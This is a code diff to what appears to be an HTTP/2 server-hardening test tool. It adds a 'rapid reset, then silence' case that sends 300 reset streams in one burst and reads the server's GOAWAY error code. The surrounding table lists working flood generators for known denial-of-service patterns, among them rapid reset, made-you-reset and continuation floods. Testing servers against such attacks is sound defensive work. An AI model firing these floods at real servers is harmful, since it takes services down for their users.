@@ -10,7 +10,7 @@ import sys
 import time
 
 from raw_http2 import (
-    CONT, DATA, GET, HEADERS, LIMIT_S, NAME, PING, PLAN, POST, PREFACE, RST, SETTINGS,
+    CONT, DATA, GET, GOAWAY, HEADERS, LIMIT_S, NAME, PING, PLAN, POST, PREFACE, RST, SETTINGS,
     block, connected, frame, pseudo, rst, settings, window,
 )
 
@@ -59,6 +59,21 @@ def flood(stream, make):
         except TimeoutError:
             continue
     return sent, "still open"
+
+
+def last_word(stream, frames):
+    """Sends so much at once, and hears the server out: the error code of its GOAWAY."""
+    stream.sendall(PREFACE + settings() + frames)
+    stream.settimeout(LIMIT_S)
+    heard = b""
+    while octets := stream.recv(65536):
+        heard += octets
+    while len(heard) >= 9:
+        length, kind = int.from_bytes(heard[:3]), heard[3]
+        if kind == GOAWAY:
+            return 1, f"GOAWAY {int.from_bytes(heard[13:17])}"
+        heard = heard[9 + length:]
+    return 1, "closed without a word"
 
 
 def wait(stream):
@@ -134,6 +149,7 @@ HTTP2 = {
     "priority": lambda stream: flood(stream, lambda n: frame(2, 0, 1 + 2 * n, b"\0\0\0\0\x10")),
     "unknown frames": lambda stream: flood(stream, lambda n: frame(0xEE, 0, 0, b"x")),
     "rapid reset": lambda stream: flood(stream, rapid),
+    "rapid reset, then silence": lambda stream: last_word(stream, b"".join(map(rapid, range(300)))),
     "made you reset": lambda stream: flood(stream, made_you),
     "continuation": lambda stream: flood(stream, lambda n: ENDLESS if n == 0 else frame(CONT, 0, 1, b"")),
     "full continuation": lambda stream: flood(stream, lambda n: ENDLESS if n == 0 else frame(CONT, 0, 1, block([("x%d" % n, "y" * 100)]))),
